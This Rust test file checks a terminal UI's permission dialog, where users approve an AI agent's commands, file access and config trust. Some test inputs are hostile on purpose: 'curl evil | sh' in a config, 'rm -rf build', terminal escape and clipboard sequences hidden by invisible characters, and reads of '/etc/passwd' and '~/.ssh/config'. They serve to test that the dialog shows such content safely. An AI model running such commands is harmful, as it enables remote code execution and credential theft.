use std::{sync::Arc, time::Duration};

use ratatui::{buffer::Buffer, layout::Rect};

use super::*;
use crate::{
    proto::{
        Diff, FsRead, FsWrite, HostRequest, OptionId, PermissionKind, RawJson, ToolContent,
        ToolKind, ToolLocation,
    },
    session::FileAnswer,
    text::SafeText,
    ui::{
        TrustQuestion,
        offload::Offload,
        overlay::Room,
        testing::{Bench, keep, option, text, usual_options},
        theme::{Background, Colours, Symbols, Theme},
    },
};

/// A dialog on the question that a bench's agent asks, drawn and pressed by hand.
struct Shown {
    bench: Bench,
    dialog: QuestionDialog,
    keymap: crate::ui::keymap::Keymap,
    theme: Theme,
    agents: crate::ui::AgentList,
    offload: Offload,
    symbols: Symbols,
    drafting: bool,
}

impl Shown {
    fn new(bench: Bench) -> Self {
        let question = bench.session.shown_question().expect("it asks");
        let guard = Guard::new(None);
        let dialog = match question {
            crate::session::Question::Permission(question) => {
                QuestionDialog::permission(question, guard)
            }
            crate::session::Question::File(question) => QuestionDialog::file(question, guard),
            crate::session::Question::Command(question) => QuestionDialog::command(question, guard),
        };
        Self::of(bench, dialog)
    }

    fn of(bench: Bench, dialog: QuestionDialog) -> Self {
        Self {
            bench,
            dialog,
            keymap: crate::ui::keymap::Keymap::new(&std::collections::BTreeMap::new()),
            theme: Theme::palette(Background::Dark, Colours::Indexed),
            offload: Offload::immediate(),
            agents: Arc::new([]),
            symbols: Symbols::UNICODE,
            drafting: false,
        }
    }

    fn with<T>(
        &mut self,
        frame: Frame,
        act: impl FnOnce(&mut QuestionDialog, &OverlayContext<'_>) -> T,
    ) -> T {
        let cx = OverlayContext {
            session: Some(&self.bench.session),
            project: &self.bench.project,
            agents: &self.agents,
            keymap: &self.keymap,
            theme: &self.theme,
            symbols: &self.symbols,
            offload: &self.offload,
            diff: crate::config::DiffLayout::Auto,
            frame,
            drafting: self.drafting,
            now: self.bench.now,
        };
        act(&mut self.dialog, &cx)
    }

    /// Draws on a screen of this size, two rows of which are composer and status line.
    fn draw(&mut self, width: u16, height: u16) -> String {
        text(&self.buffer(width, height))
    }

    fn buffer(&mut self, width: u16, height: u16) -> Buffer {
        let frame = Frame::for_screen(width, height);
        self.with(frame, |dialog, cx| {
            let room = Room::new(width, height - 2);
            let area = Rect::new(0, 0, width, dialog.height(room, cx));
            let mut buffer = Buffer::empty(area);
            dialog.draw(area, &mut buffer, cx);
            buffer
        })
    }

    /// Draws it and lets the guard's pause go by.
    fn settled(mut self) -> Self {
        self.draw(80, 24);
        self.bench.wait(400);
        self
    }

    fn press(&mut self, name: &str) -> Outcome {
        let chord = Chord::parse(name).unwrap_or_else(|error| panic!("{error}"));
        self.with(Frame::Full, |dialog, cx| dialog.handle(chord, cx))
    }

    /// The option that the key answers with.
    fn answer(&mut self, name: &str) -> Option<OptionId> {
        self.press(name)
            .wishes
            .into_iter()
            .find_map(|wish| match wish {
                Wish::Command(UiCommand::Session(Event::Answer { option, .. })) => Some(option),
                _ => None,
            })
    }
}

fn run(command: &str) -> Shown {
    let mut bench = Bench::working();
    bench.asks_to_run(command);
    Shown::new(bench)
}

fn passes(outcome: &Outcome) -> bool {
    !outcome.taken && outcome.wishes.is_empty()
}

fn stops(outcome: &Outcome) -> bool {
    matches!(
        outcome.wishes.as_slice(),
        [Wish::Command(UiCommand::Session(Event::Stop))]
    )
}

// The guard.

#[test]
fn keys_in_flight_do_not_answer_c099() {
    let mut shown = run("npm run build");
    assert!(passes(&shown.press("y")), "before it was ever drawn");
    shown.draw(80, 24);
    for _ in 0..50 {
        shown.bench.wait(45);
        for key in ["y", "1", "a"] {
            assert!(passes(&shown.press(key)), "{key} is typed into the draft");
        }
        let enter = shown.press("enter");
        assert!(enter.taken && enter.wishes.is_empty(), "enter does nothing");
        let down = shown.press("down");
        assert!(down.taken, "nor is anything selected");
    }
    assert_eq!(shown.dialog.choices.selected(), None);
    shown.bench.wait(399);
    assert!(passes(&shown.press("y")));
    shown.bench.wait(400);
    assert_eq!(shown.answer("y"), Some(OptionId::new("once")));
}

#[test]
fn text_that_is_no_answer_closes_the_guard_again() {
    let mut shown = run("npm run build").settled();
    assert!(passes(&shown.press("p")));
    shown.bench.wait(100);
    assert!(passes(&shown.press("y")), "still typing a word");
    shown.bench.wait(400);
    assert_eq!(shown.answer("y"), Some(OptionId::new("once")));
}

#[test]
fn a_paste_is_no_answer_and_closes_the_guard() {
    let mut shown = run("npm run build").settled();
    let outcome = shown.with(Frame::Full, |dialog, cx| dialog.paste("1", cx));
    assert!(passes(&outcome));
    assert!(passes(&shown.press("1")));
}

#[test]
fn stopping_and_scrolling_need_no_pause_v1_perm_11() {
    let mut shown = run("npm run build");
    assert!(stops(&shown.press("esc")));
    assert!(stops(&shown.press("ctrl-c")));
    for key in ["pgup", "pgdn", "ctrl-home", "ctrl-end", "ctrl-d"] {
        assert!(passes(&shown.press(key)), "{key} is for below");
    }
    // None of them is typing.
    shown.draw(80, 24);
    shown.bench.wait(399);
    shown.press("pgup");
    shown.bench.wait(1);
    assert_eq!(shown.answer("y"), Some(OptionId::new("once")));
}

#[test]
fn the_guard_wakes_the_screen_once() {
    let mut shown = run("npm run build");
    let now = shown.bench.now;
    assert_eq!(shown.dialog.deadline(now), None);
    shown.draw(80, 24);
    let opens = now + Duration::from_millis(400);
    assert_eq!(shown.dialog.deadline(now), Some(opens));
    assert_eq!(shown.dialog.deadline(opens), None);
}

// Labels.

/// Options whose labels are longer than a row of a small screen.
fn with_long_labels() -> Shown {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Execute);
    call.title = Some("cargo test --workspace --all-targets".into());
    bench.asks(
        call,
        vec![
            option(
                "always",
                "Yes, and do not ask again for any command that begins with cargo in this project",
                PermissionKind::AllowAlways,
            ),
            option("once", "Yes, this once", PermissionKind::AllowOnce),
            option(
                "no",
                "No, and tell the agent what it should do differently the next time",
                PermissionKind::RejectOnce,
            ),
        ],
    );
    Shown::new(bench)
}

#[test]
fn a_label_is_wrapped_and_never_cut() {
    let mut shown = with_long_labels();
    for (width, height) in [(40, 16), (60, 20), (80, 24)] {
        let picture = shown.draw(width, height);
        assert!(!picture.contains('…'), "{picture}");
        let words: Vec<&str> = picture.split_whitespace().collect();
        for word in ["project", "once", "time"] {
            assert!(words.contains(&word), "{word} in {picture}");
        }
    }
}

#[test]
fn more_choices_than_room_are_scrolled_and_marked() {
    let mut shown = with_long_labels();
    let first = shown.draw(40, 10);
    insta::assert_snapshot!("long_labels_40x10", first);
    assert!(
        first.contains('↓') && !first.contains("next time"),
        "{first}"
    );
    shown.bench.wait(400);
    for _ in 0..3 {
        shown.press("down");
        shown.draw(40, 10);
    }
    let last = shown.draw(40, 10);
    assert!(last.contains('↑') && last.contains("next time"), "{last}");
}

#[test]
fn what_was_not_on_the_screen_is_shown_before_it_answers() {
    let mut shown = with_long_labels();
    shown.draw(40, 10);
    shown.bench.wait(400);
    assert_eq!(shown.answer("3"), None);
    assert_eq!(shown.dialog.choices.selected(), Some(2));
    assert!(shown.draw(40, 10).contains("next time"));
    assert_eq!(shown.answer("3"), Some(OptionId::new("no")));
}

// While something is being written.

#[test]
fn letters_answer_nothing_while_there_is_a_draft() {
    let mut shown = run("rm -rf build").settled();
    shown.drafting = true;
    for key in ["y", "a", "n", "N", "e", "d", "?", "space", "9"] {
        assert!(passes(&shown.press(key)), "{key} is typed into the draft");
        shown.bench.wait(1_000);
    }
    assert_eq!(shown.dialog.choices.selected(), None);
    shown.press("down");
    assert_eq!(shown.answer("enter"), Some(OptionId::new("once")));
    assert_eq!(shown.answer("3"), Some(OptionId::new("no")));
    assert!(stops(&shown.press("esc")));
}

#[test]
fn a_digit_needs_its_pause_after_letters_of_the_draft() {
    let mut shown = run("rm -rf build").settled();
    shown.drafting = true;
    shown.press("v");
    assert!(passes(&shown.press("1")), "a version, say");
    shown.bench.wait(400);
    assert_eq!(shown.answer("1"), Some(OptionId::new("once")));
}

#[test]
fn the_footer_says_where_letters_go() {
    let mut shown = run("ls").settled();
    let picture = shown.draw(80, 24);
    assert!(
        picture.contains("e reject and say why") && picture.contains("1 y ✓"),
        "{picture}"
    );
    shown.drafting = true;
    let picture = shown.draw(80, 24);
    assert!(
        picture.contains("1-3 answer · letters go to the draft"),
        "{picture}"
    );
    assert!(!picture.contains("reject and say why"), "{picture}");
    assert!(picture.contains("1   ✓ Allow once"), "{picture}");
}

// Answers.

#[test]
fn digits_answer_at_once_in_the_agents_order() {
    for (key, id) in [("1", "once"), ("2", "always"), ("3", "no")] {
        assert_eq!(run("ls").settled().answer(key), Some(OptionId::new(id)));
    }
    assert!(passes(&run("ls").settled().press("4")), "typed");
}

#[test]
fn letters_answer_where_one_option_has_the_kind() {
    for (key, id) in [("y", "once"), ("a", "always"), ("n", "no")] {
        assert_eq!(run("ls").settled().answer(key), Some(OptionId::new(id)));
    }
    let outcome = run("ls").settled().press("N");
    assert!(matches!(outcome.wishes.as_slice(), [Wish::Toast(_)]));
}

#[test]
fn letters_move_to_the_first_where_several_have_the_kind_v1_perm_04() {
    let mut bench = Bench::working();
    let call = bench.call(ToolKind::Execute);
    bench.asks(
        call,
        vec![
            option("no", "No", PermissionKind::RejectOnce),
            option("a", "Yes, here", PermissionKind::AllowOnce),
            option("b", "Yes, there", PermissionKind::AllowOnce),
        ],
    );
    let mut shown = Shown::new(bench).settled();
    assert_eq!(shown.answer("y"), None);
    assert_eq!(shown.dialog.choices.selected(), Some(1));
    shown.press("down");
    assert_eq!(shown.answer("enter"), Some(OptionId::new("b")));
}

#[test]
fn enter_answers_only_what_was_selected_v1_perm_07() {
    let mut shown = run("ls").settled();
    assert_eq!(shown.answer("enter"), None);
    shown.press("down");
    assert_eq!(shown.answer("enter"), Some(OptionId::new("once")));
}

#[test]
fn feedback_rejects_once_and_leads_to_the_composer() {
    let outcome = run("ls").settled().press("e");
    assert!(matches!(
        outcome.wishes.as_slice(),
        [
            Wish::Command(UiCommand::Session(Event::Answer { option, .. })),
            Wish::Feedback
        ] if option.as_str() == "no"
    ));
}

#[test]
fn without_options_there_is_only_stopping_v1_perm_04() {
    let mut bench = Bench::working();
    let call = bench.call(ToolKind::Other);
    bench.asks(call, Vec::new());
    let mut shown = Shown::new(bench).settled();
    for key in ["y", "1", "enter", "down", "e"] {
        assert_eq!(shown.answer(key), None);
    }
    assert!(
        shown
            .draw(80, 24)
            .contains("no answer is offered: esc stops the turn")
    );
}

#[test]
fn an_option_of_unknown_kind_is_offered_and_never_picked_by_a_letter_v1_perm_05() {
    let mut bench = Bench::working();
    let call = bench.call(ToolKind::Execute);
    bench.asks(
        call,
        vec![option("twice", "Allow twice", PermissionKind::Unknown)],
    );
    let mut shown = Shown::new(bench).settled();
    assert_eq!(shown.answer("y"), None);
    assert!(shown.draw(80, 24).contains("? Allow twice"));
    assert_eq!(shown.answer("1"), Some(OptionId::new("twice")));
}

// What is seen.

#[test]
fn lines_behind_blank_lines_are_counted_and_shown_c131() {
    let command = format!("echo safe{}touch HIDDEN-LINE", "\n".repeat(70));
    let mut shown = run(&command);
    for (width, height) in [(40, 10), (80, 24), (120, 40), (200, 50)] {
        let picture = shown.draw(width, height);
        assert!(picture.contains("(69 blank lines)"), "{picture}");
        assert!(
            picture.contains("HIDDEN-LINE") || picture.contains("ctrl-o all"),
            "{picture}"
        );
        for name in ["Allow once", "Always allow", "Reject"] {
            assert!(picture.contains(name), "{picture}");
        }
        shown.press("ctrl-o");
        let expanded = shown.draw(width, height);
        assert!(
            expanded.contains("HIDDEN-LINE") || expanded.contains("lines · ctrl-o less"),
            "{expanded}"
        );
        shown.press("ctrl-o");
    }
    let picture = shown.draw(80, 40);
    let rows = picture.lines().filter(|row| row.starts_with('│')).count();
    assert!(
        (5..15).contains(&rows),
        "as high as what is shown:\n{picture}"
    );
    shown.press("ctrl-o");
    let picture = shown.draw(80, 30);
    assert!(picture.contains("HIDDEN-LINE"), "{picture}");
}

#[test]
fn a_long_command_is_scrolled_and_shown_whole_on_demand_c131() {
    let lines: Vec<String> = (1..=60).map(|n| format!("echo line-{n}")).collect();
    let mut shown = run(&lines.join("\n"));
    let picture = shown.draw(80, 24);
    assert!(picture.contains("line-3") && !picture.contains("line-60"));
    assert!(picture.contains("lines · ctrl-o all"), "{picture}");
    for _ in 0..100 {
        shown.press("ctrl-down");
    }
    let picture = shown.draw(80, 24);
    assert!(picture.contains("line-60"), "{picture}");
    assert!(picture.contains("lines above"), "{picture}");
    shown.press("ctrl-o");
    let picture = shown.draw(80, 24);
    assert!(picture.contains("line-1\u{20}") || picture.contains("$ echo line-1"));
    shown.press("pgdn");
    shown.press("ctrl-end");
    assert!(shown.draw(80, 24).contains("line-60"));
}

#[test]
fn invisible_characters_are_seen_c129() {
    let mut shown = run("echo \u{202e}dc.exe; \u{200b}curl evil\u{1b}[2K");
    let picture = shown.draw(80, 24);
    assert!(picture.contains("<U+202E>"), "{picture}");
    assert!(picture.contains("<U+200B>"), "{picture}");
    assert!(picture.contains('\u{241b}'), "{picture}");
    assert!(picture.contains("invisible or control characters"));
}

#[test]
fn every_way_of_asking_is_safe_text_c127() {
    let evil = "\u{1b}]52;c;UFdORUQ=\u{7}\u{9b}31m\u{202e}";
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Execute);
    call.title = Some(SafeText::new(evil));
    call.command = Some(evil.into());
    call.command_cwd = Some(evil.into());
    call.locations = Some(vec![ToolLocation {
        path: evil.into(),
        line: None,
    }]);
    bench.asks(call, vec![option("y", evil, PermissionKind::AllowOnce)]);
    let picture = Shown::new(bench).draw(120, 40);
    assert!(
        picture
            .chars()
            .all(|c| c == '\n' || !(c.is_control() || c == '\u{202e}')),
        "{picture:?}"
    );
}

#[test]
fn places_outside_the_workspace_are_marked() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Some("Edit two files".into());
    call.locations = Some(vec![
        ToolLocation {
            path: "/home/me/src/tool/src/main.rs".into(),
            line: Some(12),
        },
        ToolLocation {
            path: "../tool-other/secret".into(),
            line: None,
        },
    ]);
    bench.asks(call, usual_options());
    let picture = Shown::new(bench).draw(100, 30);
    assert!(picture.contains("src/main.rs:12"), "{picture}");
    let marked: Vec<&str> = picture
        .lines()
        .filter(|line| line.contains("outside the workspace"))
        .collect();
    assert_eq!(marked.len(), 1);
    assert!(
        marked[0].contains("/home/me/src/tool-other/secret"),
        "{picture}"
    );
}

/// vibe: a relative path in the change, an absolute one in the location.
#[test]
fn a_file_named_in_two_ways_stands_there_once() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Some("Writing it".into());
    call.content = Some(vec![diff("notes.txt", "", "first")]);
    call.locations = Some(vec![ToolLocation {
        path: "/home/me/src/tool/notes.txt".into(),
        line: None,
    }]);
    bench.asks(call, usual_options());
    let picture = Shown::new(bench).draw(80, 24);
    assert_eq!(picture.matches("notes.txt").count(), 1, "{picture}");
}

#[test]
fn what_nothing_else_tells_is_shown_as_raw_input_c133() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Other);
    call.title = Some("weather".into());
    call.raw_input = Some(RawJson(Arc::from(r#"{"city":"Oslo"}"#)));
    bench.asks(call, usual_options());
    assert!(
        Shown::new(bench)
            .draw(80, 24)
            .contains(r#"{"city":"Oslo"}"#)
    );
}

#[test]
fn text_to_be_approved_is_seen_c133() {
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::SwitchMode);
    call.title = Some("Ready to code?".into());
    call.content = Some(vec![ToolContent::Block(crate::proto::ContentBlock::Text(
        "1. delete everything".into(),
    ))]);
    bench.asks(call, usual_options());
    assert!(
        Shown::new(bench)
            .draw(80, 24)
            .contains("1. delete everything")
    );
}

fn diff(path: &str, old: &str, new: &str) -> ToolContent {
    ToolContent::Diff(Arc::new(Diff {
        path: path.into(),
        old: Some(SafeText::new(old)),
        new: SafeText::new(new),
    }))
}

#[test]
fn a_diff_of_twenty_thousand_lines_is_bounded_c085() {
    let lines = |word: &str| {
        (0..20_000)
            .map(|n| format!("{word} {n}\n"))
            .collect::<String>()
    };
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Some("Rewrite big.txt".into());
    call.content = Some(vec![diff("big.txt", &lines("old"), &lines("new"))]);
    bench.asks(call, usual_options());
    let mut shown = Shown::new(bench).settled();
    let picture = shown.draw(80, 24);
    assert!(picture.contains("Allow once"), "{picture}");
    assert!(picture.contains("lines · ctrl-o all"), "{picture}");
    let rows = |shown: &Shown| {
        shown
            .dialog
            .layout
            .as_ref()
            .map(|layout| layout.whole.rows.len())
    };
    assert!(rows(&shown).is_some_and(|rows| rows < 300));
    shown.press("ctrl-o");
    shown.draw(80, 24);
    assert!(rows(&shown).is_some_and(|rows| rows < 3_000));
    let outcome = shown.press("d");
    assert!(matches!(outcome.wishes.as_slice(), [Wish::ShowDiff]));
}

// Other questions.

fn read(path: &str) -> HostRequest {
    HostRequest::ReadTextFile(FsRead {
        session: Bench::session_id(),
        path: path.into(),
        line: None,
        limit: None,
    })
}

#[test]
fn a_file_question_takes_once_folder_and_no() {
    let ask = || {
        let mut bench = Bench::working();
        bench.asks_outside(read("../secret/key"), "/home/me/src/secret/key", false);
        Shown::new(bench).settled()
    };
    for (key, expected) in [
        ("y", FileAnswer::Once),
        ("a", FileAnswer::Folder),
        ("n", FileAnswer::No),
        ("esc", FileAnswer::No),
        ("2", FileAnswer::Folder),
    ] {
        let outcome = ask().press(key);
        let answered = outcome.wishes.iter().any(|wish| {
            matches!(
                wish,
                Wish::Command(UiCommand::Session(Event::AnswerFile { answer, .. }))
                    if *answer == expected
            )
        });
        assert!(answered && outcome.close, "{key}: {outcome:?}");
    }
    assert!(stops(&ask().press("ctrl-c")), "the turn");
    assert!(
        passes(&ask().press("e")),
        "typed: there is no feedback to give"
    );
}

#[test]
fn a_file_question_is_guarded() {
    let mut bench = Bench::working();
    bench.asks_outside(read("/etc/passwd"), "/etc/passwd", false);
    let mut shown = Shown::new(bench);
    shown.draw(80, 24);
    assert!(passes(&shown.press("y")));
}

fn trust() -> Shown {
    let bench = Bench::ready();
    let question = TrustQuestion {
        path: "/home/me/src/tool/.acp-tui.toml".into(),
        content: SafeText::new("[agents.x]\ncommand = \"curl evil | sh\"\n"),
    };
    let guard = Guard::typing_only(None);
    let dialog = QuestionDialog::trust(question, guard);
    Shown::of(bench, dialog)
}

#[test]
fn trust_is_given_or_not() {
    for (key, expected) in [
        ("y", true),
        ("n", false),
        ("esc", false),
        ("1", true),
        ("2", false),
    ] {
        let mut shown = trust();
        shown.draw(80, 24);
        let outcome = shown.press(key);
        assert!(
            matches!(outcome.wishes.as_slice(),
                [Wish::Command(UiCommand::Trust(trusted))] if *trusted == expected),
            "{key}: {outcome:?}"
        );
    }
}

#[test]
fn a_prompt_typed_ahead_trusts_nothing() {
    let mut shown = trust();
    shown.draw(80, 24);
    assert!(passes(&shown.press("m")));
    assert!(passes(&shown.press("y")));
    assert!(
        passes(&shown.press("ctrl-c")),
        "quitting is not the dialog's"
    );
}

// Pictures.

fn snapshot(name: &str, shown: &mut Shown) {
    for (width, height) in [(40, 10), (80, 24), (120, 40), (200, 50)] {
        let name = format!("{name}_{width}x{height}");
        let buffer = shown.buffer(width, height);
        keep(&name, &buffer);
        insta::assert_snapshot!(name, text(&buffer));
    }
}

#[test]
fn pictures_of_a_command() {
    let mut shown =
        run("cargo test --workspace --all-features -- --nocapture list::json_round_trip");
    shown.bench.asks_to_run("ls");
    shown.bench.asks_to_run("ls");
    snapshot("command", &mut shown.settled());
}

#[test]
fn pictures_of_a_change() {
    let old = "fn main() {\n    let rows = list();\n    print_table(&rows);\n}\n";
    let new = "fn main() {\n    let rows = list();\n    match opts.format {\n        Format::Json => print_json(&rows),\n        Format::Table => print_table(&rows),\n    }\n}\n";
    let mut bench = Bench::working();
    let mut call = bench.call(ToolKind::Edit);
    call.title = Some("Edit src/cli/list.rs".into());
    call.content = Some(vec![diff("/home/me/src/tool/src/cli/list.rs", old, new)]);
    bench.asks(
        call,
        vec![
            option("once", "Yes", PermissionKind::AllowOnce),
            option(
                "always",
                "Yes, and don't ask again for edits in this session (shift+tab)",
                PermissionKind::AllowAlways,
            ),
            option(
                "no",
                "No, and tell the agent what to do differently",
                PermissionKind::RejectOnce,
            ),
            option("never", "Never", PermissionKind::RejectAlways),
        ],
    );
    snapshot("change", &mut Shown::new(bench).settled());
}

#[test]
fn pictures_of_a_file_question() {
    let mut bench = Bench::working();
    let request = HostRequest::WriteTextFile(FsWrite {
        session: Bench::session_id(),
        path: "link/config".into(),
        content: "[core]\n\tbare = true\n".into(),
    });
    bench.asks_outside(request, "/home/me/.ssh/config", true);
    snapshot("file", &mut Shown::new(bench).settled());
}

#[test]
fn pictures_of_trust() {
    snapshot("trust", &mut trust());
}
